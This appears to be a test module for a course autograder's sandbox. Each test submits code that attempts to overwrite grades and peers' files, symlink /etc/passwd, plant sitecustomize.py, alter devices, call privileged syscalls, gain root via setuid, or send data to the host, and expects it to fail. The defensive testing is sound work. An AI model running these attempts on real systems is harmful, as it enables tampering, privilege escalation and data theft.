"""Attacks on what is not the submission's: the course, scores, other students, devices, the network."""

from __future__ import annotations

from tests.attacks.book import Book, attack

WRITE = """
import os, shutil
wrote = []
def write(path, text='print("evil")'):
    for change in (lambda: os.makedirs(os.path.dirname(path), exist_ok=True),
                   lambda: open(path, 'w').write(text), lambda: os.remove(path),
                   lambda: os.rename(path, path + '~'),
                   lambda: os.chmod(path, 0o777), lambda: os.symlink('/etc/passwd', path),
                   lambda: os.link('/usr/bin/env', path)):
        try:
            change()
        except OSError:
            pass
        try:
            if 'evil' in open(path).read(9999):
                wrote.append(path)
        except OSError:
            pass
"""
TOLD = "\nprint('TRIED', len(wrote))"
FILES = {
    "gradebook": ("gradebook.db", "gradebook.secret"),
    "source-and-release": ("source/assault/assault.ipynb", "release/assault/assault.ipynb"),
    "other-students": ("submitted/peer/assault/assault.ipynb", "autograded/peer/assault/assault.ipynb"),
    "feedback": ("feedback/peer/assault/assault.html", "feedback/evil/assault/assault.html"),
    "configuration": ("nbgrader_config.py", "home/.jupyter/nbgrader_config.py", "home/.bashrc"),
    "answers-and-results": ("answers/assault/double.md", ".torchaula/results/peer.json"),
}
for identifier, paths in FILES.items():

    def build(book: Book, paths: tuple[str, ...] = paths) -> None:
        """Write, remove and replace files of the course, by the paths that they have on the host."""
        places = [f"{prefix}{book.root}/{path}" for path in paths for prefix in ("", "/proc/1/root")]
        book.add(WRITE + f"for path in {places}:\n    write(path)" + TOLD).shows("TRIED")

    attack("host", identifier)(build)


@attack("host", "python-itself")
def python_itself(book: Book) -> None:
    """Change what every Python of this environment runs when it starts, or the grader's own code."""
    book.add(
        WRITE
        + """
import site, sys, torch, torchaula
places = [*sys.path, *site.getsitepackages(), sys.prefix, sys.base_prefix, os.path.dirname(torch.__file__),
          os.path.dirname(torchaula.__file__), os.path.dirname(torchaula.__file__) + '/grading',
          '/usr/lib', '/etc']
for place in places:
    for name in ('sitecustomize.py', 'evil.pth', 'judge.py', '__init__.py', 'pyvenv.cfg'):
        if place and not place.startswith('/tmp'):
            write(os.path.join(place, name))
if wrote:
    print('FOUND', wrote)
"""
        + TOLD
    ).shows("TRIED 0")


@attack("host", "devices")
def devices(book: Book) -> None:
    """Take devices away from everybody: their rights are the host's."""
    book.add(
        """
import os
for name in os.listdir('/dev'):
    mode = os.lstat(f'/dev/{name}').st_mode & 0o7777
    for change in (lambda: os.chmod(f'/dev/{name}', mode ^ 0o022),
                   lambda: os.chown(f'/dev/{name}', 1000, 1000),
                   lambda: os.remove(f'/dev/{name}'), lambda: os.rename(f'/dev/{name}', '/dev/x')):
        try:
            change()
        except OSError:
            pass
for number in (1, 2, 3):
    try:
        os.mknod(f'/tmp/disk{number}', 0o60666, os.makedev(254, number))
        print('FOUND a device')
    except OSError:
        pass
print('TRIED')
"""
    ).shows("TRIED")


@attack("host", "system-calls")
def system_calls(book: Book) -> None:
    """Ask the kernel for what only confinement's owner should get."""
    book.add(
        """
import ctypes, os, platform
libc = ctypes.CDLL(None, use_errno=True)
numbers = {
    'x86_64': dict(unshare=272, mount=165, umount=166, chroot=161, setns=308, bpf=321, userfaultfd=323,
                   perf=298, io_uring=425, keyctl=250, fsopen=430, init_module=175, reboot=169, swapon=167,
                   sethostname=170),
    'aarch64': dict(unshare=97, mount=40, umount=39, chroot=51, setns=268, bpf=280, userfaultfd=282, perf=241,
                    io_uring=425, keyctl=219, fsopen=430, init_module=105, reboot=142, swapon=224,
                    sethostname=161),
}[platform.machine()]
buffer = ctypes.create_string_buffer(256)
arguments = dict(unshare=[(0x10000000,), (0x00020000,), (0x40000000,)],
                 mount=[(b'x', b'/tmp', b'tmpfs', 0, None)],
                 umount=[(b'/proc', 2)], chroot=[(b'/tmp',)], bpf=[(0, buffer, 72)], userfaultfd=[(1,)],
                 io_uring=[(4, buffer)], fsopen=[(b'tmpfs', 0)], keyctl=[(0, -3, 1)], sethostname=[(b'x', 1)])
for name, number in numbers.items():
    for given in arguments.get(name, [(0, 0, 0, 0, 0)]):
        if name == 'reboot':
            given = (0, 0, 0, 0)
        if libc.syscall(number, *given) >= 0:
            print('FOUND a call that works:', name)
print('TRIED')
"""
    ).shows("TRIED")


@attack("host", "new-namespaces")
def new_namespaces(book: Book) -> None:
    """Become root in a namespace of one's own."""
    book.add(
        """
import ctypes, os, subprocess
for flags in ('-U', '-Ur', '-n', '-m', '-p'):
    try:
        if subprocess.run(['unshare', flags, 'true'], capture_output=True).returncode == 0:
            print('FOUND a namespace', flags)
    except OSError:
        pass
print('TRIED')
"""
    ).shows("TRIED")


@attack("host", "set-user-id")
def set_user_id(book: Book) -> None:
    """Gain rights from programs that have them, or from a file made so."""
    book.add(
        """
import os, shutil, subprocess
for program in ('su', 'sudo', 'passwd', 'mount', 'newuidmap', 'pkexec', 'chsh'):
    try:
        subprocess.run([program, '-c', 'id'], capture_output=True, stdin=subprocess.DEVNULL, timeout=1)
    except (OSError, subprocess.TimeoutExpired):
        pass
shutil.copy('/usr/bin/id', '/tmp/id')
try:
    os.chmod('/tmp/id', 0o4777)
    if 'uid=0' in subprocess.run(['/tmp/id'], capture_output=True, text=True).stdout:
        print('FOUND root')
except OSError:
    pass
for change in (os.setuid, os.setgid, os.seteuid):
    try:
        change(0)
        print('FOUND root')
    except OSError:
        pass
print('TRIED')
"""
    ).shows("TRIED")


@attack("network", "call-home")
def call_home(book: Book) -> None:
    """Reach a server on the host, by every address that it could have."""
    book.add(
        f"""
import socket
for host in ('127.0.0.1', 'localhost', '0.0.0.0', '::1', '10.0.2.2', '172.17.0.1', '192.168.1.1'):
    try:
        socket.create_connection((host, {book.port}), 0.2)
        print('FOUND a way out', host)
    except OSError:
        pass
try:
    socket.socket(socket.AF_UNIX).connect('\\0{book.socket}')
    print('FOUND a way out')
except OSError:
    pass
print('TRIED')
"""
    ).shows("TRIED")


@attack("network", "unusual-families")
def unusual_families(book: Book) -> None:
    """Use what is no network and yet leads out: netlink, raw packets, virtual machine sockets, names."""
    book.add(
        f"""
import socket, urllib.request
for family, kind, address in ((40, 1, (2, {book.port})), (17, 3, ('eth0', 3)), (2, 3, ('127.0.0.1', 0))):
    try:
        end = socket.socket(family, kind)
        end.settimeout(0.3)
        end.connect(address)
        print('FOUND a way out', family)
    except (OSError, TypeError):
        pass
for name in ('example.org', 'localhost.'):
    try:
        socket.getaddrinfo(name, 80)
        urllib.request.urlopen(f'http://{{name}}:{book.port}/', timeout=0.3)
        print('FOUND a way out', name)
    except OSError:
        pass
print('TRIED')
"""
    ).shows("TRIED")


@attack("network", "call-home-in-answer")
def call_home_in_answer(book: Book) -> None:
    """Send the arguments of a test away."""
    book.answer(
        "double",
        f"""
import socket
def double(x):
    try:
        socket.create_connection(('127.0.0.1', {book.port}), 0.2).sendall(str(x).encode())
    except OSError:
        raise RuntimeError('TRIED')
    raise RuntimeError('FOUND')
""",
    ).shows("TRIED")
